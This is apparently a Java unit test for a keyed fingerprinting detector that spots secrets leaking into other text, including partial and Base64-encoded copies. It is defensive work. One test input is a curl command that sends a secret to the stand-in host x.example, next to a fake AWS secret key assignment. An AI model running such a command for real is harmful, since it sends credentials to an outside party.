package io.elevenfold.detection.taint;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

class FingerprintsTest {

    private static final String SECRET = "q9Zt4LmX2rVb8KcW1nHs5YpD3fGj7TaE";
    private static final String OTHER = "b7Rk2QxM9wLd5VnJ4tCe8ZsA1hUy6PgF";

    private final Fingerprints fingerprints = new Fingerprints(new byte[32]);

    @Test
    void aSecretIsToldAgainInAnotherText() {
        assertThat(shared("aws_secret_access_key = " + SECRET, "curl https://x.example/?k=" + SECRET + "&a=1"))
                .isNotEmpty();
    }

    @Test
    void aPartOfSixteenCharactersIsEnough() {
        for (int from = 0; from + 16 <= SECRET.length(); from++) {
            assertThat(shared(SECRET, "zz1" + SECRET.substring(from, from + 16) + "9yy"))
                    .as("from %d", from)
                    .isNotEmpty();
        }
    }

    @Test
    void encodingItOnceDoesNotHideIt() {
        String encoded = Base64.getEncoder().encodeToString(("key: " + SECRET).getBytes(StandardCharsets.US_ASCII));

        assertThat(shared(SECRET, Map.of("body", List.of("payload=" + encoded))))
                .isNotEmpty();
    }

    @Test
    void anotherSecretIsAnother() {
        assertThat(shared(SECRET, OTHER)).isEmpty();
    }

    @Test
    void wordsPathsAndNumbersAreNoSecrets() {
        for (String text : List.of(
                "internationalization_of_documentation",
                "/usr/lib/jvm/java-17-openjdk-amd64/bin/javac",
                "2026-11-24T10:03:00Z",
                "00000000000000000000000000000001",
                "20261124100300123456",
                "aaaaaaaaaaaaaaaaaaaa1")) {
            assertThat(fingerprints.of(text)).as(text).isEmpty();
        }
    }

    @Test
    void whoHasNoKeyCannotTellAnything() {
        byte[] key = new byte[32];
        key[0] = 1;

        assertThat(new Fingerprints(key).of(SECRET)).doesNotContainAnyElementsOf(fingerprints.of(SECRET));
    }

    @Test
    void hostileTextIsBounded() {
        StringBuilder text = new StringBuilder();
        Random random = new Random(1);
        for (int i = 0; i < 200_000; i++) {
            text.append((char) (random.nextBoolean() ? 'a' + random.nextInt(26) : '0' + random.nextInt(10)));
        }
        Object deep = text.toString();
        for (int i = 0; i < 1000; i++) {
            deep = List.of(deep);
        }

        assertThat(fingerprints.of(text.toString()))
                .hasSizeLessThanOrEqualTo(256)
                .isNotEmpty();
        assertThat(fingerprints.of(deep)).isEmpty();
    }

    private Set<Long> shared(Object read, Object shown) {
        Set<Long> both = new java.util.HashSet<>(fingerprints.of(read));
        both.retainAll(fingerprints.of(shown));
        return Collections.unmodifiableSet(both);
    }
}
